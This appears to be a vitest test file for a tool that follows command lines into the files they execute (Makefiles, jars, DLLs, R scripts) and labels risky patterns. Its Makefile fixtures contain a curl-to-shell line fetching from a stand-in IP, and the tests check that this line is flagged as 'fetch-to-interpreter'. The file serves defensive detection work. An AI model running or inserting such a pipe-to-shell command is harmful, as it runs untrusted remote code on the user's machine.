import { describe, expect, test } from "vitest";
import { follow, kinds } from "./support.test-support.ts";

describe("files that another program runs as code", () => {
  test.each([[["/usr/bin/make", "-s", "-f", "/srv/x.mk", "all"]], [["/usr/bin/make", "-C", "/srv"]]])(
    "recipes of make: %j",
    (argv) => {
      const text = "all:\n\t@curl -s http://192.0.2.7/x | sh\n";
      expect(kinds(follow(argv, { "/srv/x.mk": text, "/srv/Makefile": text }))).toContain(
        "fetch-to-interpreter",
      );
    },
  );

  test("variables and rules of a Makefile are no recipes", () => {
    const text = "X = curl -s http://192.0.2.7/x | sh\nall:\n\ttrue\n";
    expect(kinds(follow(["/usr/bin/make", "-f", "/srv/x.mk"], { "/srv/x.mk": text }))).toEqual([]);
  });

  test.each([
    [["/usr/bin/java", "-Xmx1g", "-jar", "/dev/shm/a.jar"], "/dev/shm/a.jar"],
    [["/usr/bin/dotnet", "/srv/a.dll"], "/srv/a.dll"],
    [["/usr/bin/Rscript", "-e", "1", "/srv/a.R"], "/srv/a.R"],
  ])("%j reaches its file", (argv, path) => {
    const followed = follow(argv);
    expect(followed.reached.map((each) => each.path)).toContain(path);
    expect(kinds(followed).includes("volatile-path")).toBe(path.startsWith("/dev/shm/"));
  });
});
